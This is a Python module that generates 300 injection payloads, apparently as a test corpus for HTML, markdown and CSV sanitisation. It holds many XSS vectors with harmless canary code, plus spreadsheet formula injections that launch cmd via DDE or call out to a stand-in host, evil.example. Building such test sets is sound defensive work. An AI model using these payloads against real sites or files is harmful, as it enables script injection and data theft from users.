"""Three hundred texts that run, load or click where a page takes them for more than text: HTML, markdown, CSV."""

from typing import Final

CODES: Final = ("alert(1)", "window.owned=1", "fetch('/canary')")
HTML: Final = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=/canary></script><script>{}//", "</script><script>{}",
    "<img src=x onerror={}>", '<img src="x"onerror="{}">', "<img/src=x/onerror={}>", "<svg onload={}>",
    "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<iframe src=\"javascript:{}\"></iframe>",
    "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">", "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}></textarea>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<audio src=x onerror={}>", "<marquee onstart={}>x</marquee>",
    "<a href=\"javascript:{}\">tap</a>", "<a href=\"java\tscript:{}\">tap</a>",
    "<a href=\" &#106;avascript:{}\">tap</a>",
    "<math><a xlink:href=\"javascript:{}\">tap</a></math>",
    "<form action=\"javascript:{}\"><button>tap</button></form>",
    "<button formaction=\"javascript:{}\">tap</button>", "<meta http-equiv=refresh content=\"0;url=javascript:{}\">",
    "<base href=\"javascript:{}//\">", "<link rel=stylesheet href=/canary onload={}>", "<style onload={}></style>",
    "<style>@import '/canary';</style><p onmouseover={}>x", "<template><script>{}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<!--><img src=x onerror={}>-->",
    "--><script>{}</script><!--", "</bdi><script>{}</script>", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "]]><script>{}</script>", "\"><script>{}</script>", "'><script>{}</script>",
    "\" autofocus onfocus={} x=\"", "' onmouseover='{}", "`onmouseover={}",
    "<div style=\"background:url(javascript:{})\">",
    "<b hx-get=/canary hx-trigger=load>{}</b>", "<b hx-on:load=\"{}\">x</b>", "<b hx-sse:connect=/canary>{}</b>",
    "<b data-hx-get=/canary data-hx-trigger=load>{}</b>", "<x contenteditable onblur={}>x</x>",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;", "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "<<script>{}//<</script>", "<img src=`x` onerror=`{}`>", "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<%= {} %>", "#{{{}}}",
)  # fmt: skip
MARKDOWN: Final = (
    "[tap](javascript:{})", "[tap](JaVaScRiPt:{})", "![x](x\"onerror=\"{})", "[tap][1]\n\n[1]: javascript:{}",
    "<javascript:{}>", "[tap](data:text/html;base64,PHNjcmlwdD4x)<!--{}-->", "```html\n<script>{}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={}> |", "> <svg onload={}>", "# <script>{}</script>",
    "![x](/canary)<i onclick={}>", "[](/canary \"' onload={}\")",
)  # fmt: skip
FORMULAE: Final = (
    "=HYPERLINK(\"http://evil.example/{}\",\"tap\")", "=cmd|' /C calc'!A{}", "=WEBSERVICE(\"http://evil.example/{}\")",
    "=IMPORTXML(\"http://evil.example/{}\",\"//a\")", "+1+cmd|' /C calc'!A{}", "-2+3+cmd|' /C calc'!A{}",
    "@SUM(1+9)*cmd|' /C calc'!A{}", "\t=1+{}", "=DDE(\"cmd\";\"/C calc\";\"{}\")", "\uff1d1+{}", "%0A=1+{}",
    "\";=1+{};\"", "=IMAGE(\"http://evil.example/{}\")", "'=1+{}",
)  # fmt: skip
MOST: Final = 300
PAYLOADS: Final = [
    f"{form.format(code)} n{number}"
    for number, (code, form) in enumerate(
        [(code, form) for code in CODES for form in (*HTML, *MARKDOWN)]
        + [(str(number), form) for number in range(5) for form in FORMULAE]
    )
][:MOST]
